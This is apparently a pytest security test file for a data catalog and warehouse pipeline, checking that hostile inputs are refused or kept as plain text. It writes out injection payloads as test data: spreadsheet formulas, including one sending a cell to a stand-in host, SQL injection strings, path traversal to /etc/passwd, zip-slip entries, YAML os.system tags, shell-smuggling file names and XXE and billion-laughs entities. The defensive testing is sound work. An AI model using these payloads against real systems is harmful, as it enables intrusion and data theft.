"""What a delivered file, a name or a parameter may try: it is refused, or it is only text."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from pathlib import Path

import duckdb
import pytest
import xlsxwriter

from catalog.errors import UserError
from catalog.loader import load_catalog, read_model
from catalog.model import Item
from catalog.period import Period
from transforms import steps
from transforms.extract.drop import land
from transforms.trial import try_delivery
from warehouse.home import Home
from warehouse.lake import Lake
from xtcredit.printing import Format, print_rows

KEY = "5a" * 32
EVIL = ('=HYPERLINK("http://x/?"&A1,"点")', "+1+1", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1")
SQL = (
    "'; DROP TABLE core.record; --",
    "') UNION SELECT number FROM vault.identifier --",
    "\"; ATTACH 'x' AS y; --",
    "$$; --",
    "{{7*7}}",
)


@pytest.fixture(autouse=True)
def key(monkeypatch):
    monkeypatch.setenv("XTCREDIT_IDENTITY_KEY", KEY)


def honours(path: Path, names: list[str], header: str | None = None) -> Path:
    """A file of the item with the fewest fields that takes free text, one row per name."""
    item = load_catalog().item("utility_arrears")
    with path.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow([f.title for f in item.fields] + ([header] if header else []))
        for name in names:
            writer.writerow(
                [name if f.name == "name" else "" for f in item.fields] + (["x"] if header else [])
            )
    return path


def tried(path: Path, home: Home):
    return try_delivery(
        land(path, load_catalog().item("utility_arrears"), Period.parse("2019-12"), home),
        load_catalog(),
        home,
    )


@pytest.mark.parametrize("value", [*EVIL, *SQL])
def test_a_value_is_only_a_value(tmp_path, value):
    home = Home(tmp_path / "home")
    trial = tried(honours(tmp_path / "a.csv", [value, "邢台样例有限公司"]), home)
    assert trial.counts.read == 2
    with Lake(home) as lake:
        assert lake.scalar("SELECT 1") == 1


@pytest.mark.parametrize("header", [*SQL, '"; DROP TABLE x; --'])
def test_sql_in_a_header_is_an_unknown_column(tmp_path, header):
    with pytest.raises(UserError) as told:
        tried(honours(tmp_path / "a.csv", ["邢台样例有限公司"], header), Home(tmp_path / "home"))
    assert "列" in str(told.value)


@pytest.mark.parametrize("value", EVIL)
def test_csv_for_spreadsheets_runs_no_formula(value, monkeypatch):
    out = io.StringIO()
    monkeypatch.setattr("sys.stdout", out)
    print_rows(["a", "b"], [(value, -3)], Format.csv)
    row = list(csv.reader(io.StringIO(out.getvalue())))[1]
    assert row == [f"'{value}", "-3"]


@pytest.mark.parametrize("code", SQL)
def test_sql_in_a_parameter_is_refused(tmp_path, code):
    home = Home(tmp_path)
    for ask in (
        lambda: load_catalog().item(code),
        lambda: Period.parse(code),
        lambda: steps.extract(code, "2019-12", home),
        lambda: steps.publish(date(2020, 1, 1), home, county=code),
        lambda: steps.publish(date(2020, 1, 1), home, audience=code),
    ):
        with pytest.raises(UserError):
            ask()
    assert not [p for p in tmp_path.rglob("*") if code in p.name]


@pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/passwd", "..", "a/../../b"])
def test_a_publication_cannot_leave_its_folder(tmp_path, name):
    home = Home(tmp_path / "home")
    with pytest.raises(UserError):
        steps.publish(date(2020, 1, 1), home, audience=name)
    assert sorted(p.name for p in tmp_path.iterdir()) in ([], ["home"])


def test_a_workbook_with_paths_that_climb_writes_nothing_outside(tmp_path):
    path = tmp_path / "in" / "a.xlsx"
    path.parent.mkdir()
    with zipfile.ZipFile(path, "w") as book:
        book.writestr("../../escaped.txt", "x")
        book.writestr("xl/workbook.xml", "<workbook/>")
    with pytest.raises(UserError):
        tried(path, Home(tmp_path / "home"))
    assert not (tmp_path / "escaped.txt").exists()
    assert not (tmp_path.parent / "escaped.txt").exists()


def test_an_oversized_cell_is_told_and_harms_nothing(tmp_path):
    trial = tried(
        honours(tmp_path / "a.csv", ["大" * 3_000_000, "邢台样例有限公司"]), Home(tmp_path / "home")
    )
    assert trial.counts.read == 2
    assert trial.counts.quarantined >= 1
    assert max(len(example) for t in trial.tallies for example in t.examples) < 100_100


@pytest.mark.parametrize(
    "tag",
    [
        "!!python/object/apply:os.system ['touch owned']",
        "!!python/name:os.system",
        "!!binary aGk=",
        "&a [*a]",
    ],
)
def test_a_hostile_yaml_tag_runs_nothing(tmp_path, monkeypatch, tag):
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "evil.yml"
    path.write_text(f"id: evil\ntitle: {tag}\n", encoding="utf-8")
    model, findings = read_model(Item, path)
    assert model is None
    assert findings
    assert not (tmp_path / "owned").exists()


NAMES = (
    "..csv",
    "...csv",
    "..%2f..%2fetc.csv",
    "-rf.csv",
    "$(touch owned).csv",
    "a;b'c\"d.csv",
    "\u202egnp.csv",
    "c:\\x\\..\\y.csv",
)


@pytest.mark.parametrize("name", NAMES)
def test_a_file_name_names_no_other_place(tmp_path, name):
    """Whatever a file is called, its landed copy, its batch and its staged files stay in their folders."""
    home = Home(tmp_path / "home")
    source = honours(tmp_path / "in.csv", ["邢台样例有限公司"]).rename(tmp_path / name)
    before = {p for p in tmp_path.rglob("*") if home.root not in p.parents}
    manifest = land(source, load_catalog().item("utility_arrears"), Period.parse("2019-12"), home)
    steps.stage(str(manifest), home)
    delivery = manifest.parent.parent.name
    assert manifest.resolve().is_relative_to(home.landing / "utility_arrears" / "2019-12")
    assert delivery not in ("", ".", "..")
    assert not set(delivery) & set("/\\;'\"$()%\u202e")
    assert {p for p in tmp_path.rglob("*") if home.root not in p.parents} - before <= {home.root}


@pytest.mark.parametrize("listed", ["../../../etc/passwd", "/etc/passwd", "..", "130500_gs_x.csv; rm -rf"])
def test_a_marker_reads_no_other_file(tmp_path, listed):
    home = Home(tmp_path / "home")
    inbox = home.inbox / "2019-12"
    inbox.mkdir(parents=True)
    name = "130500_fgw_utility_arrears_20200103_01"
    honours(inbox / f"{name}.csv", ["邢台样例有限公司"])
    (inbox / f"{name}.ok").write_text(listed + "\n", encoding="utf-8")
    (manifest,) = steps.extract("utility_arrears", "2019-12", home)
    kept = {path.name for path in home.landing.rglob("*") if path.is_file()}
    assert kept == {f"{name}.csv", Path(manifest).name}
    with pytest.raises(UserError, match="标记文件"):
        steps.stage(manifest, home)


ENTITY = (
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>',
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghe", strict=True))
    + "]>",
)


@pytest.mark.parametrize("doctype", ENTITY, ids=["external", "billion laughs"])
def test_a_workbooks_xml_opens_no_entity(tmp_path, doctype):
    """What an entity would stand for is in no cell: the workbook is refused, or the cell says nothing of it."""
    item = load_catalog().item("utility_arrears")
    plain = tmp_path / "plain.xlsx"
    with xlsxwriter.Workbook(plain) as book:
        sheet = book.add_worksheet()
        for column, field in enumerate(item.fields):
            sheet.write_string(0, column, field.title)
            sheet.write_string(1, column, "邢台样例有限公司" if field.name == "name" else "ENTITY")
    path = tmp_path / "evil.xlsx"
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(path, "w") as target:
        for name in source.namelist():
            text = source.read(name).decode()
            if name == "xl/sharedStrings.xml":
                head, _, rest = text.partition("?>")
                text = f"{head}?>{doctype}{rest}".replace("ENTITY</t>", "&e;</t>")
                assert "&e;</t>" in text
            target.writestr(name, text)
    home = Home(tmp_path / "home")
    manifest = land(path, item, Period.parse("2019-12"), home)
    secret = (
        Path("/etc/hostname").read_text("utf-8").strip() if Path("/etc/hostname").exists() else "aaaaaaaaaa"
    )
    refused = ""
    try:
        staged = Path(steps.stage(str(manifest), home))
    except UserError as error:
        refused = str(error)
    assert secret not in refused
    if refused:
        return
    with duckdb.connect() as reader:
        rows = reader.execute(
            f"SELECT q::VARCHAR FROM read_parquet('{staged.with_name('quarantine.parquet')}') q"
        ).fetchall()
        rows += reader.execute(
            f"SELECT q::VARCHAR FROM read_parquet('{staged.with_name('staged.parquet')}') q"
        ).fetchall()
    assert rows
    assert not [row for (row,) in rows if secret in row or "aaaaaaaaaa" in row]
